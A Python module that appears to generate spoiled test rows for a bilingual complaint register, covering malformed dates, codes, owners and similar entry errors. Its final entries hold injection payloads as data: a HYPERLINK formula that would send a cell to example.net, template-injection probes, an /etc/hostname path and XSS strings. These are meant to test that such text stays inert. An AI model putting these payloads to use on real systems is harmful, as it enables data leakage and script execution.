"""What goes wrong in registers that people fill: one spoiled row a kind, and text that tries to be something else."""

from __future__ import annotations

import datetime as dt
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

from qtemplate.sheets.standard import Shown

from . import catalogue as c
from .steps import DAY, OWN_COST, OWN_REGION, Draft, solve, transfer, verify


@dataclass(frozen=True, slots=True)
class BadCell:
    """A kind of error and how it gets into a row."""

    kind: str
    spoil: Callable[[Draft], None]


def _set(**values: Any) -> Callable[[Draft], None]:
    """Put raw values in; a pair is (zh, en)."""

    def spoil(draft: Draft) -> None:
        for key, value in values.items():
            draft.row[key] = draft.say(value) if isinstance(value, tuple) else value

    return spoil


def _story(draft: Draft, product: str) -> None:
    """Make the row one of `product`, so that what is wrong is wrong for it."""
    chosen = c.product(product)
    draft.story = next(story for story in c.stories() if story["product"] == product)
    draft.row.update(title=draft.story["title"][draft.language][0], description=draft.told("text"))
    draft.row.update(category=draft.story["category"], scene=draft.told("scene"))
    draft.row.update(product=chosen.name[c.side(draft.language)], model=chosen.models[0])
    for key in ("version", "batch", "serial"):
        draft.row.pop(key, None)


def _text_date(draft: Draft) -> None:
    draft.row["received_at"] = draft.say(("2026年7月13日", "July 13, 2026"))


def _trailing_spaces(draft: Draft) -> None:
    draft.row["product"] += " "
    draft.row["reporter"] = "  " + draft.row["reporter"] + " "
    draft.row["channel"] = draft.say((" 电子邮件", " E-mail "))


def _number_as_batch(draft: Draft) -> None:
    _story(draft, "vacuum")
    draft.row["batch"] = Shown(32611, "000000")


def _number_as_serial(draft: Draft) -> None:
    _story(draft, "vacuum")
    draft.row.update(batch="032612", serial=6937526801234, phone=13800001234)


def _wrong_batch(draft: Draft) -> None:
    _story(draft, "lock")
    draft.row["batch"] = "26-L-08"


def _unknown_batch(draft: Draft) -> None:
    _story(draft, "purifier")
    draft.row["batch"] = draft.say(("未知", "Unknown"))


def _foreign_model(draft: Draft) -> None:
    _story(draft, "cooker")
    draft.row.update(model="V8 Pro", batch="RC260311")


def _dates_out_of_order(draft: Draft) -> None:
    transfer(draft)
    solve(draft, days=1)
    draft.row["implemented_at"] = draft.received - 5 * DAY


def _own_verifier(draft: Draft) -> None:
    transfer(draft)
    solve(draft, days=1)
    draft.row["implemented_at"] = draft.received + DAY / 2
    verify(draft)
    draft.row["verified_at"] = draft.received + DAY / 2
    draft.row["verifier"] = draft.row["owner"]


def _owner(key: str) -> Callable[[Draft], None]:
    def spoil(draft: Draft) -> None:
        transfer(draft, accepted=False)
        draft.row["owner"] = c.person(key, draft.language)
        draft.row["department"] = c.department(next(m.department for m in c.MEMBERS if m.key == key), draft.language)
        draft.row.pop("transferred_at")

    return spoil


def _urgent_on_a_day(draft: Draft) -> None:
    draft.row.update(received_at=draft.received.date(), safety="yes", severity=5)


def _own_columns(draft: Draft) -> None:
    draft.row[OWN_REGION[c.side(draft.language)]] = draft.say(("火星", "Mars"))
    draft.row[OWN_COST[c.side(draft.language)]] = draft.say(("约三百", "about 300"))


def _as_text(draft: Draft) -> None:
    _story(draft, "app")
    draft.row.update(severity=str(draft.story["severity"]), quantity="3")


def _duplicate_id(draft: Draft) -> None:
    draft.tag = "duplicate id"


def _formula(draft: Draft) -> None:
    draft.row["title"] = draft.say(("=HYPERLINK 开头的标题也只是文字", "=HYPERLINK at the start is only text"))
    draft.row["description"] = '=HYPERLINK("http://example.net/?"&A1,"click") and =1+1 and @SUM(A1:A9)'
    draft.row["reporter"] = "+1-1"


BAD_CELLS = (
    BadCell("text date", _text_date),
    BadCell("ambiguous date", _set(received_at="3/7")),
    BadCell("serial number as date", _set(received_at=Shown(46215.5625, "General"))),
    BadCell("future date", _set(received_at=dt.datetime(2026, 7, 20, 9, 30))),
    BadCell("number stored as text", _as_text),
    BadCell("error values", _set(quantity="#VALUE!", model="#N/A")),
    BadCell("spaces", _trailing_spaces),
    BadCell("unknown choices", _set(category=("电气故障", "Hardwares"), scope=("很多", "Lots"))),
    BadCell("bad mail and phone", _set(email="liu.example.com", phone=("没有", "none"))),
    BadCell("model of another product", _foreign_model),
    BadCell("dates out of order", _dates_out_of_order),
    BadCell("unknown person", _set(recorder=("林晶", "Helen Parks"))),
    BadCell("duplicate id", _duplicate_id),
    BadCell("number in a code column", _number_as_batch),
    BadCell("long numbers", _number_as_serial),
    BadCell("batch of the wrong form", _wrong_batch),
    BadCell("batch unknown", _unknown_batch),
    BadCell(
        "vague",
        _set(title=("坏了", "Bad"), description=("坏了，不好用，有问题，如题。", "Broken, does not work, bad.")),
    ),
    BadCell("out of scale", _set(severity=7, frequency=("每次", "Each time"))),
    BadCell("verified by the owner", _own_verifier),
    BadCell("owner has left", _owner("qian")),
    BadCell("owner is away", _owner("wu")),
    BadCell("owner without mail", _owner("xu")),
    BadCell("urgent without a time", _urgent_on_a_day),
    BadCell("own columns", _own_columns),
    BadCell("cross-field", _set(safety="yes", severity=1, scope="single", quantity=12)),
    BadCell("formula", _formula),
    BadCell(
        "template",
        _set(
            title=("模板 {{7*7}} 应原样显示", "Template {{7*7}} stays as typed"),
            description="{{ config.items() }} {% for x in range(3) %}x{% endfor %} {{ ''.__class__ }}",
        ),
    ),
    BadCell("path", _set(title="/etc/hostname", description="/etc/hostname", attachments="/etc/hostname")),
    BadCell(
        "markup",
        _set(
            reporter="<script>alert(1)</script>",
            description="<b>bold</b> & <img src=x onerror=alert(1)> ]]> \n\t 第二行",
        ),
    ),
)  # fmt: skip
"""One row each, in this order."""
